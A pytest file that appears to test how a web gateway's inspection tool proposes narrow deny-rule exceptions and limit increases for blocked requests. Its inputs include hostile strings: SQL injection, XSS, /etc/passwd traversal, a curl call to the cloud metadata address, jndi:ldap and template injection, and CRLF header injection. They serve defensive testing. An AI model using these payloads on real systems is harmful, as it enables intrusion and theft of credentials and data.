"""What is offered lets exactly the request through, and little else."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from msgspec.structs import replace

from microgateway_common.ir.deny_rules import Level, ThreatHandling
from microgateway_common.ir.gateway import ContentSecurity
from microgateway_common.ir.limits import Limited
from microgateway_common.ir.origin import ResourceOrigin
from microgateway_inspection.explain.remedies import remedy
from microgateway_inspection.explain.result import Change, NothingToDo, NotOffered, Offered, Remedy
from microgateway_inspection.kit.placing import Where, place
from microgateway_inspection.request import Request
from microgateway_inspection.rule_set import RuleSet

MakeContent = Callable[..., ContentSecurity]
ATTACK = "1' union select password from users --"


@pytest.fixture
def offered(rules: RuleSet, make_content: MakeContent) -> Callable[..., Remedy]:
    def offer(request: Request, body: bytes | None = None, **changes: Any) -> Remedy:
        return remedy(make_content(**changes), rules, request, body)

    return offer


Offer = Callable[..., Remedy]


def only_change(found: Remedy) -> Change:
    assert isinstance(found, Offered), found
    (change,) = found.changes
    return change


@pytest.mark.parametrize(
    ("where", "data", "path"),
    [
        (Where.QUERY, {"parameter": {"name": {"matcher": {"exact": "q"}}, "source": "Query"}}, "/search"),
        (Where.FORM, {"parameter": {"name": {"matcher": {"exact": "note"}}, "source": "Post"}}, "/form"),
        (
            Where.MULTIPART,
            {"parameter": {"name": {"matcher": {"exact": "note"}}, "source": "Post"}},
            "/upload",
        ),
        (Where.JSON, {"json": {"jsonPath": "$.items[*].note"}}, "/api/items"),
        (Where.HEADER, {"header": {"name": {"matcher": {"exact": "x-note"}}}}, "/"),
        (Where.COOKIE, {"header": {"name": {"matcher": {"exact": "cookie:prefs"}}}}, "/"),
    ],
)
def test_an_exception_is_narrow(offered: Offer, where: Where, data: dict[str, Any], path: str) -> None:
    request, body = place(ATTACK, where).to_request()
    change = only_change(offered(request, body))
    assert (change.resource, change.where, change.action) == (
        "DenyRules", "spec.request.builtIn.exceptions", "append",
    )  # fmt: skip
    assert change.value == {
        "ruleKeys": ["SQL"],
        "blockedData": data,
        "requestConditions": {"method": [request.method], "path": {"matcher": {"exact": path}}},
    }


def test_a_segment_is_excepted_by_its_position(offered: Offer) -> None:
    request, body = place(ATTACK, Where.SEGMENT).to_request()
    assert only_change(offered(request, body)).value == {
        "ruleKeys": ["SQL"],
        "blockedData": {"pathSegment": {"segments": {"index": 1}}},
        "requestConditions": {"method": ["GET"], "path": {"matcher": {"prefix": "/items/"}}},
    }


def test_one_exception_has_all_keys_of_a_field(offered: Offer) -> None:
    value = quote("<script>alert(1)</script>' union select 1 from users--; cat /etc/passwd", safe="")
    change = only_change(offered(Request("GET", "/", f"q={value}".encode(), [], "192.0.2.1")))
    assert set(change.value["ruleKeys"]) >= {"SQL", "XSS"}


def test_every_field_has_its_own(offered: Offer) -> None:
    value = quote(ATTACK, safe="")
    found = offered(Request("GET", "/", f"a={value}&b={value}".encode(), [], "192.0.2.1"))
    assert isinstance(found, Offered)
    names = [each.value["blockedData"]["parameter"]["name"]["matcher"]["exact"] for each in found.changes]
    assert names == ["a", "b"]


def test_a_member_of_an_object_is_excepted_by_its_path(offered: Offer) -> None:
    body = json.dumps({"filter": {ATTACK: {"a": [1]}}}).encode()
    request = Request("POST", "/", b"", [(b"content-type", b"application/json")], "192.0.2.1")
    change = only_change(offered(request, body))
    assert change.value["blockedData"]["json"]["jsonPath"].startswith("$.filter['1")


def test_limits_are_raised_as_far_as_needed(offered: Offer, small_limits: Limited) -> None:
    request = Request("GET", "/", b"a=" + b"x" * 50 + b"&b=" + b"y" * 70, [], "192.0.2.1")
    change = only_change(offered(request, limits=small_limits))
    assert (change.resource, change.where, change.action, change.value) == (
        "Limits", "spec.request.limited.parameter.valueLength", "set", 70,
    )  # fmt: skip


def test_limits_and_rules_together(offered: Offer, small_limits: Limited) -> None:
    body = json.dumps({f"key{at}": ATTACK * 2 for at in range(6)}).encode()
    request = Request("POST", "/", b"", [(b"content-type", b"application/json")], "192.0.2.1")
    found = offered(request, body, limits=small_limits)
    assert isinstance(found, Offered)
    assert {each.where for each in found.changes} == {
        "spec.request.limited.json.bodySize",
        "spec.request.limited.json.keyCount",
        "spec.request.limited.json.valueLength",
        "spec.request.builtIn.exceptions",
    }


def test_what_is_only_logged_is_silenced(offered: Offer) -> None:
    request, body = place(ATTACK, Where.QUERY).to_request()
    assert isinstance(offered(request, body, handling=ThreatHandling.LOG_ONLY), Offered)


def test_while_one_thing_blocks_what_is_logged_is_left_alone(offered: Offer, small_limits: Limited) -> None:
    request = Request("GET", "/", b"q=" + quote(ATTACK * 2, safe="").encode(), [], "192.0.2.1")
    found = offered(request, limits=small_limits, limit_handling=ThreatHandling.LOG_ONLY)
    assert only_change(found).resource == "DenyRules"


def test_nothing_to_do(offered: Offer) -> None:
    assert offered(Request("GET", "/", b"q=hello", [], "192.0.2.1")) == NothingToDo()


def test_a_document_too_deep_to_read_has_no_remedy(offered: Offer) -> None:
    request = Request("POST", "/", b"", [(b"content-type", b"application/json")], "192.0.2.1")
    assert isinstance(offered(request, b"[" * 20_000), NotOffered)


def test_resources_are_named_and_missing_ones_explained(rules: RuleSet, make_content: MakeContent) -> None:
    request, body = place(ATTACK, Where.QUERY).to_request()
    content = make_content()
    missing = remedy(content, rules, request, body)
    assert "create it and refer to it" in only_change(missing).note
    origin = ResourceOrigin("DenyRules", "shop", "web", 3)
    named = replace(content, deny_rules=replace(content.deny_rules, origin=origin))
    change = only_change(remedy(named, rules, request, body))
    assert (change.resource, change.note) == ("DenyRules shop/web", "")


def test_a_secret_in_a_path_is_left_open(offered: Offer) -> None:
    path = "/reset/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln/form"
    change = only_change(offered(Request("GET", path, b"q=" + quote(ATTACK).encode(), [], "192.0.2.1")))
    assert change.value["requestConditions"]["path"] == {"matcher": {"prefix": "/reset/"}}


def test_a_name_that_is_a_secret_is_not_shown(offered: Offer) -> None:
    name = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"
    found = offered(Request("GET", "/", f"{name}={quote(ATTACK)}".encode(), [], "192.0.2.1"))
    assert isinstance(found, NotOffered)


@pytest.mark.parametrize("level", [Level.BASIC, Level.STANDARD, Level.STRICT])
@pytest.mark.parametrize("where", list(Where))
@pytest.mark.parametrize(
    "value",
    [
        ATTACK,
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "$(curl http://169.254.169.254/)",
        "{{7*7}}${jndi:ldap://x/a}",
        "a\r\nSet-Cookie: x=1",
        "%00%c0%ae",
    ],
)
def test_what_is_offered_was_tried(offered: Offer, value: str, where: Where, level: Level) -> None:
    request, body = place(value, where).to_request()
    assert isinstance(offered(request, body, level=level), Offered | NothingToDo)
